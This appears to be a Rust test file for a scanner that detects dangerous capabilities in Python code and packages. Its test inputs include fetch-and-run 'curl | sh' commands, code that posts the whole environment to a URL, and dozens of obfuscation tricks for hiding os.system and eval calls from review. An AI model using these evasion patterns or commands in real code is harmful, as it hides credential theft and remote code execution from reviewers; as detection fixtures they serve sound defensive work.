//! What Python says, and the ways to hide it.

#![expect(clippy::format_collect, reason = "texts of a test are short")]

use super::*;

/// What is seen, as `ability by` and `kind text`, each once, by name.
fn seen(source: &str) -> Vec<String> {
    let mut all: Vec<String> = read(source)
        .sights
        .iter()
        .map(|sight| match &sight.seen {
            Seen::Ability { ability, by } => format!("{} {by}", ability.as_str()),
            Seen::Literal { kind, text } => format!("{} {text}", kind.as_str()),
        })
        .collect();
    all.sort();
    all.dedup();
    all
}

/// Every row that does not hold, so that one run shows them all.
fn check(rows: &[(&str, &[&str])]) {
    let wrong: Vec<String> = rows
        .iter()
        .filter(|(source, expected)| seen(source) != *expected)
        .map(|(source, expected)| format!("{source}\n  expected {expected:?}\n  found    {:?}", seen(source)))
        .collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn names_abilities() {
    check(&[
        ("import subprocess\nsubprocess.run(['ls'])", &["process subprocess.run"]),
        (
            "import subprocess\nsubprocess.run(cmd, shell=True)",
            &["process subprocess.run", "shell subprocess.run(shell=True)"],
        ),
        ("import subprocess\nsubprocess.run(cmd, shell=False)", &["process subprocess.run"]),
        (
            "import subprocess\nsubprocess.run(['sh', '-c', x])",
            &["process subprocess.run", "shell sh -c"],
        ),
        ("import os\nos.system(x)", &["shell os.system"]),
        (
            "import asyncio\nasync def f(): await asyncio.create_subprocess_shell('x')",
            &["shell asyncio.create_subprocess_shell"],
        ),
        ("import requests\nrequests.post(u, data=d)", &["network requests.post"]),
        (
            "import httpx\nwith httpx.Client() as c:\n    c.post(u)",
            &["network httpx.Client", "network httpx.Client.post"],
        ),
        (
            "import httpx\ndef f(c: httpx.AsyncClient | None): return c.get(u)",
            &["network httpx.AsyncClient.get"],
        ),
        ("import httpx\ndef f(r: httpx.Response): return r.headers.get('x')", &[]),
        ("import httpx\ntry: pass\nexcept httpx.HTTPError: pass", &[]),
        ("import socket\nsocket.gethostbyname(h)", &["dns socket.gethostbyname"]),
        ("open(p)\nopen(p, 'rb')", &[]),
        ("open(p, mode='w')", &["file-write open"]),
        ("open(p, m)", &["file-write open"]),
        (
            "from pathlib import Path\n(Path(x) / 'y').unlink()",
            &["file-write pathlib.Path.unlink"],
        ),
        ("def f(p): p.write_text('x')", &["file-write Path.write_text"]),
        ("import base64\nbase64.b64encode(x)", &["encode base64.b64encode"]),
        ("eval(x)\nexec(x)\ncompile(x, y, z)", &["eval compile", "eval eval", "eval exec"]),
        ("import re\nre.compile('x')\ndef compile(x): pass\ncompile(1)", &[]),
        ("import pickle\npickle.loads(x)", &["eval pickle.loads"]),
        ("import ctypes\nctypes.CDLL(x)", &["native ctypes.CDLL"]),
        ("import pyperclip\npyperclip.paste()", &["clipboard pyperclip.paste"]),
        ("from PIL import ImageGrab\nImageGrab.grab()", &["screen PIL.ImageGrab.grab"]),
        ("import types\nisinstance(x, (types.FunctionType, types.CodeType))", &[]),
    ]);
}

#[test]
fn reads_the_words_of_commands() {
    check(&[
        (
            "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', p])",
            &["child-interpreter pip install", "process subprocess.check_call"],
        ),
        (
            "import os\nos.system('curl -s ' + u + ' | sh')",
            &["child-interpreter curl | sh", "network curl", "shell os.system"],
        ),
        (
            "import subprocess\ncmd = ['npx', '-y']\nsubprocess.run(cmd + [p])",
            &["child-interpreter npx", "process subprocess.run"],
        ),
        (
            "import subprocess as s\ns.Popen(['git', 'push'])\ns.run(['git', 'status'])",
            &["process subprocess.Popen", "process subprocess.run", "publish git push"],
        ),
        (
            "import subprocess as s\ns.check_output('pbpaste')",
            &["clipboard pbpaste", "process subprocess.check_output"],
        ),
    ]);
}

#[test]
fn the_whole_environment_is_not_one_variable() {
    check(&[
        (
            "import os\nos.environ['A']\nos.environ.get('B')\nos.getenv('C')\n'D' in os.environ\nos.environ['E'] = '1'\ndel os.environ['E']\nos.environ.setdefault('F', 'g')",
            &[],
        ),
        ("import os\nprint(dict(os.environ))", &["whole-environment os.environ"]),
        ("import os\nfor k, v in os.environ.items(): pass", &["whole-environment os.environ"]),
        ("import os\nx = [k for k in os.environ]", &["whole-environment os.environ"]),
        ("import os\nx = os.environ\nf(x)", &["whole-environment os.environ"]),
        (
            "from os import environ as e\ndef g():\n    y = {**e}\n    f(y)",
            &["whole-environment os.environ"],
        ),
        (
            "import os, json\njson.dumps(dict(os.environ))",
            &["encode json.dumps(os.environ)", "whole-environment os.environ"],
        ),
        (
            "import os, subprocess\ndef f():\n    e = os.environ.copy()\n    e['A'] = 'b'\n    subprocess.run(c, env=e)",
            &["process subprocess.run", "whole-environment os.environ (passed on)"],
        ),
        (
            "import os, subprocess\nsubprocess.run(c, env={**os.environ, 'A': 'b'})",
            &["process subprocess.run", "whole-environment os.environ (passed on)"],
        ),
        (
            "import os, requests\ndef f():\n    e = os.environ.copy()\n    requests.post(u, json=e)",
            &["network requests.post", "whole-environment os.environ"],
        ),
        ("from os import environ", &["whole-environment os.environ"]),
    ]);
}

#[test]
fn follows_names() {
    for source in [
        "import os as o\no.system(x)",
        "from os import system as s\ns(x)",
        "from os import *\nsystem(x)",
        "from os import system",
        "import posix\nposix.system(x)",
        "import os\ngetattr(os, 'sys' + 'tem')(x)",
        "import os\ngetattr(os, ''.join(['sys', 'tem']))(x)",
        "import os\ngetattr(os, 'metsys'[::-1])(x)",
        "import os\ngetattr(os, '%s%s' % ('sys', 'tem'))(x)",
        "import os\ngetattr(os, f\"{'sys'}tem\")(x)",
        "import os\ngetattr(os, bytes([115, 121, 115, 116, 101, 109]).decode())(x)",
        "import os\ngetattr(os, ''.join(chr(c) for c in (115, 121, 115, 116, 101, 109)))(x)",
        "import os, base64\na = 'sys'\nb = 'tem'\ndef f(): getattr(os, a + b)(x)",
        "import os\nvars(os)['system'](x)",
        "import os\nos.__dict__['system'](x)",
        "import os\nos.__dict__.get('system')(x)",
        "__import__('os').system(x)",
        "import importlib\nimportlib.import_module('os').system(x)",
        "import sys\nsys.modules['os'].system(x)",
        "import tempfile\ntempfile._os.system(x)",
        "from .compat import os\nos.system(x)",
        "import os\nglobals()['os'].system(x)",
        "import os\nlist(map(os.system, xs))",
        "import os\nclass A:\n    run = os.system",
        "import os\ndef f(_os=os): _os.system(x)",
        "import os\nm, n = os, 1\nm.system(x)",
        "import os\nif (z := os): z.system(x)",
        "import os\nm = os\ndef f(): m.system(x)\nif 0: m = None",
        "from operator import attrgetter\nimport os\nattrgetter('system')(os)(x)",
        "from functools import partial\nimport os\npartial(os.system, x)()",
        "import os\nclass A:\n    def __init__(self): self.o = os\n    def f(self): self.o.system(x)",
        "import os\nos.system.__call__(x)",
        "import \u{ff4f}\u{ff53}\n\u{ff4f}\u{ff53}.system(x)",
    ] {
        assert!(
            seen(source).contains(&"shell os.system".to_owned()),
            "{source}\n  found {:?}",
            seen(source)
        );
    }
    for source in [
        "globals()['__builtins__']['eval'](x)",
        "__builtins__.eval(x)",
        "getattr(__builtins__, 'ev' + 'al')(x)",
        "__builtins__.__dict__['eval'](x)",
        "import builtins as b\nb.eval(x)",
        "e = eval\ne(x)",
        "if 0: eval = None\neval(x)",
        "def f(x: eval('1')): pass",
        "@eval\ndef f(): pass",
        "(lambda e=eval: e(x))()",
        "\u{ff45}val(x)",
        "f'{eval(x)}'",
        "f'{a:{eval(x)}}'",
    ] {
        assert!(
            seen(source).contains(&"eval eval".to_owned()),
            "{source}\n  found {:?}",
            seen(source)
        );
    }
    check(&[
        ("import os\ngetattr(os, x)(y)", &["eval getattr(os, …)"]),
        ("import os\nrun(os)", &["eval os (handed on)"]),
        ("import os\nhasattr(os, 'fork')\ngetattr(os, 'O_BINARY', 0)", &[]),
        ("import os\ndef f(os): os.system(x)", &["shell os.system"]),
        ("def eval(x): return x\neval(1)", &[]),
    ]);
}

#[test]
fn collects_imports() {
    let reading = read(
        "import os.path, httpx as h\nfrom mcp.server import Server\nfrom . import a\nfrom ..b import c\n\
         from google import genai\n__import__('x.y')\nimport importlib\nimportlib.import_module('z')",
    );
    let found: Vec<&str> = reading.imports.iter().map(String::as_str).collect();
    assert_eq!(
        found,
        [
            "..b",
            ".a",
            "google.genai",
            "httpx",
            "importlib",
            "mcp.server",
            "os.path",
            "x.y",
            "z"
        ]
    );
    assert!(!reading.computed_import);
    assert!(read("__import__(name)").computed_import);
    assert!(read("from importlib import import_module as i\ni(f'{a}.b')").computed_import);
}

#[test]
fn functions_hold_what_stands_in_them() {
    let source = "import os\nos.system(1)\nclass A:\n    os.system(2)\n    def f(self, x=os.system(3)):\n        os.system(4)\n        g = lambda: os.system(5)\n";
    let reading = read(source);
    let at: Vec<Option<usize>> = reading.sights.iter().map(|sight| sight.function).collect();
    assert_eq!(at, [None, None, None, Some(0), Some(1)]);
    assert_eq!(reading.functions[1].parent, Some(0));
    assert!(source[reading.functions[0].range.clone()].starts_with("def f"));
    assert!(source[reading.functions[1].range.clone()].starts_with("lambda"));
    assert_eq!(&source[reading.sights[0].range.clone()], "os.system");
}

#[test]
fn says_which_text_python_runs_instead() {
    for name in ["rot13", "utf-7", "raw_unicode_escape", "my.codec", "gbk"] {
        for source in [
            format!("# coding: {name}\nx = 1\n"),
            format!("#!/usr/bin/env python\n# -*- coding: {name} -*-\n"),
            format!("\r\n# vim: set fileencoding={name} :\r\n"),
        ] {
            let why = read(&source).unread.unwrap_or_default();
            assert!(why.contains(name), "{source}: {why}");
        }
    }
    for source in [
        "# coding: utf-8\n",
        "# -*- coding: Latin-1 -*-\n",
        "#\n# coding=US-ASCII\n",
        "x = 1\n# coding: rot13\n",
        "#\n#\n# coding: rot13\n",
        "# the coding of rot13\n",
    ] {
        assert_eq!(read(source).unread, None, "{source}");
    }
    assert!(read("x = 1\0\n").unread.is_some_and(|why| why.contains("null byte")));
}

#[test]
fn broken_code_is_unread_and_read_as_far_as_it_goes() {
    let source = "import os\nos.system(x)\nprint 'x'\neval(y)\n";
    let why = read(source).unread.unwrap_or_default();
    assert!(why.starts_with("line 3: "), "{why}");
    assert!(seen(source).contains(&"shell os.system".to_owned()));
    assert!(seen(source).contains(&"eval eval".to_owned()));
}

#[test]
fn nesting_stops_nobody() {
    let many = 200_000;
    for (source, name) in [
        ("(".repeat(many), "open brackets"),
        (format!("{}1{}", "(".repeat(many), ")".repeat(many)), "brackets"),
        (format!("{}{}", "[".repeat(many), "}".repeat(many)), "wrong brackets"),
        ("([{".repeat(many), "mixed brackets"),
        (format!("x = {}1", "not ".repeat(many)), "not"),
        (format!("x = {}1", "-".repeat(many)), "minus"),
        (format!("x = a{}", ".b".repeat(many)), "members"),
        (format!("x = a{}", "()".repeat(many)), "calls"),
        (format!("x = a{}", "[0]".repeat(many)), "items"),
        (format!("x = {}1", "1 if y else ".repeat(many)), "choices"),
        (format!("x = {}1", "lambda: ".repeat(many)), "lambdas"),
        (format!("x = {}1", "lambda a, b: ".repeat(many)), "lambdas with parameters"),
        (format!("x = 1{}", "+1".repeat(many)), "sums"),
        (format!("x = 1{}", "**1".repeat(many)), "powers"),
        (format!("x = {}1", "await ".repeat(many)), "await"),
        (format!("{}x = 1", "async ".repeat(many)), "async"),
        (format!("{}x = 1", "if x: ".repeat(many)), "ifs in a line"),
        (format!("x = {}{}", "f'{".repeat(many), "}'".repeat(many)), "f-strings"),
        (format!("x = f'{}'", "{a:".repeat(many)), "format"),
        (format!("match x:\n case {}", "(".repeat(many)), "patterns"),
        (format!("with {}", "(".repeat(many)), "with"),
        (
            format!(
                "x = (\n{}",
                (0..3500).map(|i| format!("{}if x:\n", " ".repeat(i))).collect::<String>()
            ),
            "hidden blocks",
        ),
        ((0..3500).map(|i| format!("{}if x:\n", " ".repeat(i))).collect::<String>(), "blocks"),
    ] {
        let why = read(&source).unread;
        assert!(why.is_some_and(|why| why.contains("deep")), "{name}");
    }
}

#[test]
fn what_is_just_allowed_is_walked() {
    let many = DEEPEST / 2 - 20;
    for (source, name) in [
        (format!("eval(x)\ny = {}1{}", "(".repeat(many), ")".repeat(many)), "brackets"),
        (format!("eval(x)\ny = {}1{}", "f(".repeat(many), ")".repeat(many)), "calls"),
        (format!("eval(x)\ny = {}1", "not ".repeat(many)), "not"),
        (format!("eval(x)\ny = a{}", ".b()".repeat(many / 2)), "members"),
        (format!("eval(x)\ny = {}1", "1 if z else ".repeat(many / 2)), "choices"),
        (format!("eval(x)\ny = {}1", "lambda a, b: ".repeat(many / 2)), "lambdas"),
        (format!("eval(x)\ny = 1{}", "+1".repeat(many)), "sums"),
        (format!("eval(x)\ny = 1{}", "**1".repeat(many)), "powers"),
        (format!("eval(x)\nwith {}1{}: pass", "(".repeat(190), ")".repeat(190)), "with"),
        (format!("eval(x)\nmatch {}1{}: pass", "(".repeat(190), ")".repeat(190)), "match"),
        (
            format!(
                "eval(x)\n{}",
                (0..900).map(|i| format!("{}if x:\n", " ".repeat(i))).collect::<String>() + &" ".repeat(900) + "pass"
            ),
            "blocks",
        ),
    ] {
        assert!(
            seen(&source).contains(&"eval eval".to_owned()),
            "{name}: {:?}",
            read(&source).unread
        );
    }
}

#[test]
fn a_flat_file_is_not_deep() {
    let list = format!("x = [{}]\n", "a.b(1), ".repeat(50_000));
    assert!(depth::of(&list) < 20, "{}", depth::of(&list));
    let calls = "f(a + b, c)\nif x:\n    g()\n".repeat(50_000);
    assert!(depth::of(&calls) < 20, "{}", depth::of(&calls));
}

#[test]
fn of_a_pth_file_only_imports_run() {
    let source = "./folder\nimport os; os.system('x')\nimporter\n../other = (\nimport\tsubprocess\n";
    let reading = read_pth(source);
    assert_eq!(reading.unread, None);
    assert_eq!(&source[reading.sights[0].range.clone()], "os.system");
    assert!(reading.imports.contains("subprocess"));
}

#[test]
fn numbers_that_spell_a_text_are_a_blob() {
    let text = "import os; os.system('curl example | sh') # and more";
    let numbers: Vec<String> = text.bytes().map(|byte| byte.to_string()).collect();
    let found = seen(&format!("x = [{}]", numbers.join(", ")));
    assert!(found.contains(&format!("encoded data {text}")), "{found:?}");
    assert_eq!(seen(&format!("x = [{}]", "0, 255, 128, ".repeat(50))), Vec::<String>::new());
}
